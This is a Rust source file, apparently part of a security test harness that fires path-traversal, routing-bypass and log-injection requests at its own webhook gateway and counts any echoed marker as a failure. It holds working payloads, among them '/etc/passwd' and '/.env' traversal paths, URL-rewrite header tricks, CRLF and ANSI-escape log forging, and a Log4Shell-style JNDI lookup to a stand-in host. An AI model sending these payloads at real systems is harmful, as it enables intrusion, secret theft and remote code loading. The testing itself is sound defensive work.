//! Ways around the one path that there is, and lines that want to be in the log.

use super::attacker::{Field, MARK, again_and_again, provoke};
use crate::harness::VERIFY_TOKEN;

/// Targets at the public side that aren't the webhook's.
const TARGETS: &[&str] = &[
    "/",
    "//",
    "/webhook/",
    "//webhook",
    "/./webhook",
    "/webhook/.",
    "/webhook//",
    "/webhook/../webhook",
    "/webhook/../v1/status",
    "/webhook/..;/v1/status",
    "/webhook/%2e%2e/v1/status",
    "/webhook%2f..%2fv1%2fstatus",
    "/webhook%00",
    "/webhook%20",
    "/webhook;a=b",
    "/webhook;/v1/status",
    "/webhook\\..\\v1\\status",
    "/Webhook",
    "/WEBHOOK",
    "/%77ebhook",
    "/w%65bhook",
    "/webhook%3f",
    "/webhook%23",
    "/webhook.json",
    "/webhook/hook",
    "/v1/status",
    "/v1/records",
    "/v1/openapi.json",
    "/metrics",
    "/healthz",
    "/readyz",
    "/..%c0%af..%c0%afetc/passwd",
    "/../../../../etc/passwd",
    "/.env",
    "/.git/config",
    "/favicon.ico",
    "/robots.txt",
    "/console",
    "*",
    "http://127.0.0.1:8080/v1/status",
    "https://box/v1/status",
    "/webhook\u{e9}",
    "/\u{202e}koohbew",
];

/// Every target with every method, with a right query behind it and with the API's token beside it.
pub(crate) async fn tricks(field: Field) {
    again_and_again(32, move |place| {
        let field = field.clone();
        async move {
            let long = format!("/webhook/{}", "a".repeat(15_000));
            let deep = format!("/{}webhook", "../".repeat(2_000));
            let targets = TARGETS.iter().copied().chain([long.as_str(), deep.as_str()]);
            let mine = targets.enumerate().filter(|(number, _)| number % 32 == place as usize);
            for (_, target) in mine {
                for method in ["GET", "POST", "PUT", "HEAD"] {
                    trick(&field, place, method, target).await;
                }
            }
            tokio::time::sleep(std::time::Duration::from_millis(200)).await;
        }
    })
    .await;
}

async fn trick(field: &Field, place: u32, method: &str, target: &str) {
    let Ok(mut stream) = field.tls(field.nth_address(place)).await else { return };
    let token = VERIFY_TOKEN.replace(' ', "%20");
    let query = format!("hub.mode=subscribe&hub.verify_token={token}&hub.challenge={MARK}");
    let request = format!(
        "{method} {target}?{query} HTTP/1.1\r\nHost: box\r\nX-Original-URL: /webhook\r\nX-Rewrite-URL: /v1/status\r\nAuthorization: Bearer {}\r\nConnection: close\r\n\r\n",
        crate::harness::API_TOKEN
    );
    field.tally.asked();
    let answer = provoke(&mut stream, request.as_bytes()).await;
    let status = answer.get(9..12).and_then(|status| status.parse().ok()).unwrap_or(0);
    field.tally.expect(&format!("{method} {target:.40}"), status, &[0, 400, 404, 405, 414, 431]);
    if answer.contains(MARK) || answer.contains("wagate") {
        field.tally.wrong(format!("{method} {target:.40}: {answer}"));
    }
}

/// What would be a line of the log, or colour it, where it is written as it came.
const LINES: &[&str] = &[
    "a\r\n{\"level\":\"ERROR\",\"message\":\"MARK\"}",
    "a\n{\"level\":\"ERROR\",\"message\":\"MARK\"}\n",
    "\",\"message\":\"MARK\",\"x\":\"",
    "\u{1b}[31mMARK\u{1b}[0m\u{7}",
    "\u{1b}]0;MARK\u{7}",
    "${jndi:ldap://MARK.example/a}",
    "%0d%0aMARK",
    "\u{2028}MARK\u{85}\u{9b}31m",
    "MARK\u{8}\u{8}\u{8}\u{8}",
    "%s%n%x{MARK}{}",
];

/// Such lines wherever there is room for them: target, query, headers, body, name of the server.
pub(crate) async fn log_lines(field: Field) {
    again_and_again(40, move |place| {
        let field = field.clone();
        async move {
            let line = LINES[place as usize % LINES.len()].replace("MARK", MARK);
            let request = match place / 10 {
                0 => format!("GET /webhook?hub.mode={line}&hub.verify_token={line}&hub.challenge={line} HTTP/1.1\r\nHost: box\r\n\r\n"),
                1 => format!("POST /{line} HTTP/1.1\r\nHost: {line}\r\nUser-Agent: {line}\r\n\r\n"),
                2 => format!(
                    "POST /webhook HTTP/1.1\r\nHost: {line}\r\nUser-Agent: {line}\r\nX-Forwarded-For: {line}\r\nForwarded: for={line}\r\nX-Hub-Signature-256: {line}\r\nContent-Length: 0\r\n\r\n"
                ),
                _ => format!("{line}: {line}\r\n{line} {line} {line}\r\n\r\n"),
            };
            let from = field.nth_address(place);
            field.tally.asked();
            if place % 3 == 0 {
                let Ok(mut stream) = field.tcp(from, field.api).await else { return };
                provoke(&mut stream, request.replace("/webhook", "/v1/records").as_bytes()).await;
            } else if let Ok(mut stream) = field.tls_to(from, &format!("{MARK}.example")).await {
                provoke(&mut stream, request.as_bytes()).await;
            }
            // And where TLS should be.
            if let Ok(mut stream) = field.tcp(from, field.webhook).await {
                provoke(&mut stream, line.as_bytes()).await;
            }
        }
    })
    .await;
}
